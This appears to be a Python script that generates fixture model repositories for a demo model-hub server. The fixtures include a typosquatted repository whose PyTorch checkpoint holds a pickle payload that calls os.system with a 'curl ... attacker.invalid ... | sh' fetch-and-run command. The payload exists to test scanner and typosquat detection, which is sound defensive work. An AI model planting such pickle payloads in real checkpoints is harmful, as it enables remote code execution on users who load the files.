#!/usr/bin/env python3
"""Regenerates the demo's fixture model repositories (served by testing/hub-server).

Run from anywhere: python3 examples/hub/generate.py
Only the standard library is needed. PyTorch-format checkpoints are written the way
torch.save does (a zip with archive/data.pkl, protocol 2, persistent ids for storages),
using stand-in `torch` modules so the pickles name the same globals as real ones.
Nothing here loads or executes a pickle.
"""
import collections
import hashlib
import io
import json
import os
import pickle
import shutil
import struct
import sys
import types
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def sha1(text):
    return hashlib.sha1(text.encode()).hexdigest()


# --- stand-ins so pickle writes torch's global names -------------------------------------------
torch = types.ModuleType("torch")
torch_utils = types.ModuleType("torch._utils")


class FloatStorage:
    pass


FloatStorage.__module__ = "torch"
torch.FloatStorage = FloatStorage


def _rebuild_tensor_v2(*args):  # never called: only its name is pickled
    raise RuntimeError("not a real torch")


_rebuild_tensor_v2.__module__ = "torch._utils"
torch_utils._rebuild_tensor_v2 = _rebuild_tensor_v2
torch._utils = torch_utils
sys.modules.setdefault("torch", torch)
sys.modules.setdefault("torch._utils", torch_utils)


class StorageRef:
    def __init__(self, key, numel):
        self.key, self.numel = key, numel


class Tensor:
    def __init__(self, storage, shape):
        self.storage, self.shape = storage, shape

    def __reduce__(self):
        stride, acc = [], 1
        for dim in reversed(self.shape):
            stride.insert(0, acc)
            acc *= dim
        return (_rebuild_tensor_v2, (self.storage, 0, tuple(self.shape), tuple(stride), False, collections.OrderedDict()))


class RunsShellCommand:
    """What a malicious checkpoint smuggles in: unpickling it would call os.system."""

    def __reduce__(self):
        return (os.system, ("curl -s http://attacker.invalid/x | sh",))


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", FloatStorage, obj.key, "cpu", obj.numel)
        return None


def torch_zip(state, storages, name="archive"):
    """bytes of a torch.save-style zip checkpoint."""
    buf = io.BytesIO()
    pk = io.BytesIO()
    TorchPickler(pk, protocol=2).dump(state)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{name}/data.pkl", pk.getvalue())
        z.writestr(f"{name}/byteorder", "little")
        for key, data in storages.items():
            z.writestr(f"{name}/data/{key}", data)
        z.writestr(f"{name}/version", "3\n")
    return buf.getvalue()


def floats(n, seed):
    return b"".join(struct.pack("<f", ((i * 7919 + seed) % 1000) / 1000.0) for i in range(n))


def safetensors(tensors):
    header, data, offset = {"__metadata__": {"format": "pt"}}, b"", 0
    for name, shape in tensors.items():
        n = 1
        for d in shape:
            n *= d
        blob = floats(n, len(name))
        header[name] = {"dtype": "F32", "shape": shape, "data_offsets": [offset, offset + len(blob)]}
        data += blob
        offset += len(blob)
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data


def state_dict(tensors, extra=None):
    storages, state = {}, collections.OrderedDict()
    for i, (name, shape) in enumerate(tensors.items()):
        n = 1
        for d in shape:
            n *= d
        storages[str(i)] = floats(n, i)
        state[name] = Tensor(StorageRef(str(i), n), shape)
    if extra:
        state.update(extra)
    return state, storages


def card(front, body):
    lines = ["---"]
    for k, v in front.items():
        lines.append(f"{k}: {json.dumps(v)}")
    lines += ["---", "", body, ""]
    return "\n".join(lines)


def write_repo(repo_id, meta, files, commit_dir="files"):
    root = os.path.join(HERE, *repo_id.split("/"))
    os.makedirs(root, exist_ok=True)
    with open(os.path.join(root, "repo.json"), "w") as f:
        json.dump(meta, f, indent=2)
        f.write("\n")
    for path, content in files.items():
        full = os.path.join(root, commit_dir, *path.split("/"))
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(content.encode() if isinstance(content, str) else content)


BERTISH = {"a.weight": [8, 4], "a.bias": [8], "classifier.weight": [2, 8]}


def main():
    for entry in os.listdir(HERE):
        if os.path.isdir(os.path.join(HERE, entry)) and not entry.startswith((".", "_")):
            shutil.rmtree(os.path.join(HERE, entry))

    with open(os.path.join(HERE, "_hub.json"), "w") as f:
        json.dump({
            "authors": {
                "acme-ai": {"type": "org", "verified": True, "createdAt": "2021-03-01T00:00:00.000Z", "fullname": "ACME AI"},
                "openai-community": {"type": "org", "verified": True, "createdAt": "2019-02-01T00:00:00.000Z"},
                "google-bert": {"type": "org", "verified": True, "createdAt": "2019-02-01T00:00:00.000Z"},
                "sentence-transformers": {"type": "org", "verified": True, "createdAt": "2019-08-01T00:00:00.000Z"},
                "research-collective": {"type": "org", "verified": False, "createdAt": "2024-06-01T00:00:00.000Z"},
                "legacy-lab": {"type": "user", "createdAt": "2020-05-01T00:00:00.000Z"},
                "fresh-uploader": {"type": "user", "createdAt": "2026-11-18T00:00:00.000Z"},
                "new-team": {"type": "org", "verified": True, "createdAt": "2023-01-01T00:00:00.000Z"},
            },
            "whoami": {"name": "demo-user", "orgs": []},
        }, f, indent=2)
        f.write("\n")

    config = {"architectures": ["DistilBertForSequenceClassification"], "model_type": "distilbert", "num_labels": 2}

    # 1. Safe, pinned: safetensors from a verified org, with history and a tag.
    old, head = sha1("acme-ai/sentiment-small v1"), sha1("acme-ai/sentiment-small v2")
    write_repo("acme-ai/sentiment-small", {
        "downloads": 1250000, "likes": 310, "createdAt": "2022-04-11T09:00:00.000Z",
        "library_name": "transformers", "pipeline_tag": "text-classification", "tags": ["transformers", "safetensors", "text-classification"],
        "commits": [
            {"id": head, "title": "Update weights", "date": "2025-02-03T10:00:00.000Z", "dir": "files"},
            {"id": old, "title": "Initial upload", "date": "2022-04-11T09:00:00.000Z", "dir": "v1"},
        ],
        "refs": {"main": head, "v1.0": old},
        "safetensors": {"parameters": {"F32": 56}, "total": 56},
    }, {
        "config.json": json.dumps(config, indent=2),
        "model.safetensors": safetensors(BERTISH),
        "tokenizer.json": json.dumps({"version": "1.0", "model": {"type": "WordPiece", "vocab": {"[PAD]": 0, "[UNK]": 1}}}),
        "README.md": card({"license": "apache-2.0", "base_model": "distilbert/distilbert-base-uncased", "pipeline_tag": "text-classification"}, "# sentiment-small\n\nA small sentiment classifier."),
    })
    write_repo("acme-ai/sentiment-small", json.load(open(os.path.join(HERE, "acme-ai/sentiment-small/repo.json"))), {
        "config.json": json.dumps(config, indent=2),
        "model.safetensors": safetensors({"a.weight": [8, 4], "classifier.weight": [2, 8]}),
        "README.md": card({"license": "apache-2.0"}, "# sentiment-small v1"),
    }, commit_dir="v1")

    # 2. Pickle-only: a torch.save zip checkpoint (benign), no safetensors.
    state, storages = state_dict({"conv1.weight": [4, 3, 3, 3], "fc.weight": [10, 4], "fc.bias": [10]})
    write_repo("legacy-lab/resnet-classic", {
        "downloads": 48000, "likes": 52, "createdAt": "2021-06-15T00:00:00.000Z",
        "library_name": "transformers", "pipeline_tag": "image-classification",
        "security": {"pytorch_model.bin": {"status": "safe", "pickleImportScan": {"status": "safe", "pickleImports": [
            {"module": "torch._utils", "name": "_rebuild_tensor_v2", "safety": "innocuous"},
            {"module": "torch", "name": "FloatStorage", "safety": "innocuous"},
            {"module": "collections", "name": "OrderedDict", "safety": "innocuous"}]}}},
    }, {
        "config.json": json.dumps({"architectures": ["ResNetForImageClassification"], "model_type": "resnet"}, indent=2),
        "pytorch_model.bin": torch_zip(state, storages),
        "README.md": card({"license": "mit"}, "# resnet-classic"),
    })

    # 3. Custom code, including code pulled from another repository.
    write_repo("research-collective/long-context-chat", {
        "downloads": 7300, "likes": 41, "createdAt": "2025-01-20T00:00:00.000Z",
        "library_name": "transformers", "pipeline_tag": "text-generation", "tags": ["custom_code"],
    }, {
        "config.json": json.dumps({
            "architectures": ["LongCtxForCausalLM"], "model_type": "longctx",
            "auto_map": {
                "AutoConfig": "configuration_longctx.LongCtxConfig",
                "AutoModelForCausalLM": "modeling_longctx.LongCtxForCausalLM",
                "AutoTokenizer": ["research-collective/shared-tokenizers--tokenization_lc.LCTokenizer", None],
            },
        }, indent=2),
        "configuration_longctx.py": "from transformers import PretrainedConfig\n\n\nclass LongCtxConfig(PretrainedConfig):\n    model_type = 'longctx'\n",
        "modeling_longctx.py": "import torch\nfrom transformers import PreTrainedModel\n\nfrom .configuration_longctx import LongCtxConfig\n\n\nclass LongCtxForCausalLM(PreTrainedModel):\n    config_class = LongCtxConfig\n\n    def forward(self, input_ids):\n        return torch.zeros(1)\n",
        "model.safetensors": safetensors({"lm_head.weight": [16, 4]}),
        "README.md": card({"license": "other", "base_model": "research-collective/long-context-base"}, "# long-context-chat"),
    })
    write_repo("research-collective/shared-tokenizers", {"downloads": 900, "createdAt": "2024-07-01T00:00:00.000Z"}, {
        "tokenization_lc.py": "from transformers import PreTrainedTokenizer\n\n\nclass LCTokenizer(PreTrainedTokenizer):\n    pass\n",
    })

    # 4. Gated: metadata and file list public, files need accepted terms and a token.
    write_repo("acme-ai/llama-guarded", {
        "gated": "manual", "downloads": 88000, "likes": 900, "createdAt": "2024-04-18T00:00:00.000Z",
        "library_name": "transformers", "pipeline_tag": "text-generation",
    }, {
        "config.json": json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama"}, indent=2),
        "model.safetensors": safetensors({"embed.weight": [16, 4]}),
        "README.md": card({"license": "llama3", "extra_gated_prompt": "Accept the licence to access this model."}, "# llama-guarded"),
    })

    # 5. An impersonation: near-name of #1, days old, few downloads, a checkpoint that runs a
    #    shell command, flagged by the hub's scanners.
    state, storages = state_dict(BERTISH, extra={"_metadata": RunsShellCommand()})
    write_repo("fresh-uploader/sentiment-smal1", {
        "downloads": 14, "likes": 0, "createdAt": "2026-11-19T00:00:00.000Z",
        "library_name": "transformers", "pipeline_tag": "text-classification",
        "security": {"pytorch_model.bin": {
            "status": "unsafe",
            "pickleImportScan": {"status": "unsafe", "pickleImports": [
                {"module": "posix", "name": "system", "safety": "dangerous"},
                {"module": "torch._utils", "name": "_rebuild_tensor_v2", "safety": "innocuous"}]},
            "protectAiScan": {"status": "unsafe", "message": "This file is vulnerable to arbitrary code execution (PAIT-PKL-100)"},
            "avScan": {"status": "safe"}}},
    }, {
        "config.json": json.dumps(config, indent=2),
        "pytorch_model.bin": torch_zip(state, storages),
        "README.md": card({"license": "apache-2.0"}, "# sentiment-small (fast)"),
    })

    # 6. Popular models the demo (and the typosquat check) can reference.
    gpt2_state, gpt2_storages = state_dict({"wte.weight": [16, 4]})
    write_repo("openai-community/gpt2", {
        "redirectFrom": ["gpt2"], "downloads": 11000000, "likes": 2900, "createdAt": "2022-03-02T23:29:04.000Z",
        "library_name": "transformers", "pipeline_tag": "text-generation",
    }, {
        "config.json": json.dumps({"architectures": ["GPT2LMHeadModel"], "model_type": "gpt2"}, indent=2),
        "model.safetensors": safetensors({"wte.weight": [16, 4]}),
        "pytorch_model.bin": torch_zip(gpt2_state, gpt2_storages),
        "README.md": card({"license": "mit"}, "# GPT-2"),
    })
    write_repo("google-bert/bert-base-uncased", {
        "redirectFrom": ["bert-base-uncased"], "downloads": 52000000, "likes": 2300, "createdAt": "2022-03-02T23:29:04.000Z",
        "library_name": "transformers", "pipeline_tag": "fill-mask",
    }, {
        "config.json": json.dumps({"architectures": ["BertForMaskedLM"], "model_type": "bert"}, indent=2),
        "model.safetensors": safetensors({"embeddings.weight": [16, 4]}),
        "README.md": card({"license": "apache-2.0"}, "# BERT base uncased"),
    })
    write_repo("sentence-transformers/all-MiniLM-L6-v2", {
        "downloads": 90000000, "likes": 3800, "createdAt": "2022-03-02T23:29:05.000Z",
        "library_name": "sentence-transformers", "pipeline_tag": "sentence-similarity",
    }, {
        "config.json": json.dumps({"architectures": ["BertModel"], "model_type": "bert"}, indent=2),
        "model.safetensors": safetensors({"embeddings.weight": [16, 4]}),
        "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]),
        "README.md": card({"license": "apache-2.0"}, "# all-MiniLM-L6-v2"),
    })

    # 7. A renamed repository: the old id redirects.
    write_repo("new-team/summarizer", {
        "redirectFrom": ["old-team/summarizer"], "downloads": 33000, "likes": 75, "createdAt": "2023-05-05T00:00:00.000Z",
        "library_name": "transformers", "pipeline_tag": "summarization",
    }, {
        "config.json": json.dumps({"architectures": ["BartForConditionalGeneration"], "model_type": "bart"}, indent=2),
        "model.safetensors": safetensors({"shared.weight": [16, 4]}),
        "README.md": card({"license": "mit"}, "# summarizer"),
    })
    print("wrote", HERE)


if __name__ == "__main__":
    main()
